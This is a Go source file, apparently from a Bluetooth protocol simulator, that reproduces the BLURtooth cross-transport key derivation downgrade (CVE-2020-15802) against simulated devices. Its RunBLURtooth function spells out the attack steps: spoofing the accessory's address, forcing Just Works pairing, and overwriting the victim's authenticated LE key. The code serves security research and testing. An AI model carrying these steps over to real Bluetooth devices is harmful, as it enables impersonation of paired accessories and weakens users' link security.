@@ -1,0 +1,103 @@
+package core
+
+import (
+	"time"
+
+	"repro/internal/bt"
+	"repro/internal/device"
+	"repro/internal/host"
+	"repro/internal/sim"
+)
+
+// BLURtooth cross-transport key derivation abuse (CVE-2020-15802): a host
+// with CTKD enabled derives an LE Long Term Key from every BR/EDR link
+// key notification, unconditionally. After the victim pairs its accessory
+// with numeric comparison (authenticated key, authenticated derived LTK),
+// the attacker assumes the accessory's address with NoInputNoOutput and
+// re-pairs over BR/EDR: Just Works yields an unauthenticated link key,
+// and CTKD silently overwrites the stronger LTK with one derived from it
+// — the cross-transport downgrade.
+
+// BLURtoothConfig parameterizes the downgrade run.
+type BLURtoothConfig struct {
+	// Attacker is A; Client is the genuine accessory C (a DisplayYesNo
+	// platform, so the setup pairing is authenticated); Victim is the
+	// CTKD-enabled phone M. VictimUser must be installed as M's UI.
+	Attacker   *device.Device
+	Client     *device.Device
+	Victim     *device.Device
+	VictimUser *host.SimUser
+	// PairTime bounds the legitimate pairing prologue (default 30 s).
+	PairTime time.Duration
+	// SettleTime bounds the attack phase; defaults to 30 s.
+	SettleTime time.Duration
+}
+
+// BLURtoothReport is the outcome of one run.
+type BLURtoothReport struct {
+	// LegitPaired reports the authenticated setup pairing completed.
+	LegitPaired bool
+	// LTKWasAuthenticated reports the derived LTK was MITM-protected
+	// after the legitimate pairing.
+	LTKWasAuthenticated bool
+	// Downgraded reports the attack outcome: M's bond for the accessory
+	// now holds the attacker's unauthenticated key and an LTK re-derived
+	// from it, no longer authenticated.
+	Downgraded bool
+	// NewLTKAuthenticated is the LTK's MITM flag after the attack.
+	NewLTKAuthenticated bool
+	// Elapsed is virtual time consumed.
+	Elapsed time.Duration
+}
+
+// RunBLURtooth pairs M with C under numeric comparison, then lets the
+// attacker overwrite the bond — and via CTKD the LE LTK — through an
+// impersonated Just Works re-pairing.
+func RunBLURtooth(s *sim.Scheduler, cfg BLURtoothConfig) BLURtoothReport {
+	var rep BLURtoothReport
+	start := s.Now()
+	a, c, m := cfg.Attacker, cfg.Client, cfg.Victim
+
+	pairTime := cfg.PairTime
+	if pairTime <= 0 {
+		pairTime = 30 * time.Second
+	}
+	settle := cfg.SettleTime
+	if settle <= 0 {
+		settle = 30 * time.Second
+	}
+
+	// Prologue: the victim deliberately pairs the accessory. Both sides
+	// are DisplayYesNo, so stage 1 is numeric comparison and the link key
+	// (and the CTKD-derived LTK) is authenticated.
+	cfg.VictimUser.ExpectPairing(c.Addr())
+	m.Host.Pair(c.Addr(), func(err error) { rep.LegitPaired = err == nil })
+	s.RunFor(pairTime)
+	cfg.VictimUser.ClearExpectation(c.Addr())
+	if b := m.Host.Bonds().Get(c.Addr()); b != nil {
+		rep.LTKWasAuthenticated = b.HasLTK && b.LTKAuthenticated
+	}
+	m.Host.Disconnect(c.Addr())
+	s.RunFor(time.Second)
+
+	// The accessory goes out of range; the attacker takes its identity
+	// and forces Just Works with NoInputNoOutput.
+	c.Controller.Detach()
+	a.Host.SetIOCapability(bt.NoInputNoOutput)
+	a.SpoofIdentity(c.Addr(), c.Platform.COD)
+	a.Host.Pair(m.Addr(), func(error) {})
+
+	s.RunFor(settle)
+	rep.Elapsed = s.Now() - start
+
+	victimBond := m.Host.Bonds().Get(c.Addr())
+	attackerBond := a.Host.Bonds().Get(m.Addr())
+	if victimBond != nil {
+		rep.NewLTKAuthenticated = victimBond.HasLTK && victimBond.LTKAuthenticated
+	}
+	rep.Downgraded = victimBond != nil && attackerBond != nil &&
+		victimBond.Key == attackerBond.Key &&
+		victimBond.HasLTK && !victimBond.LTKAuthenticated &&
+		victimBond.LTK == host.DeriveLTK(attackerBond.Key)
+	return rep
+}
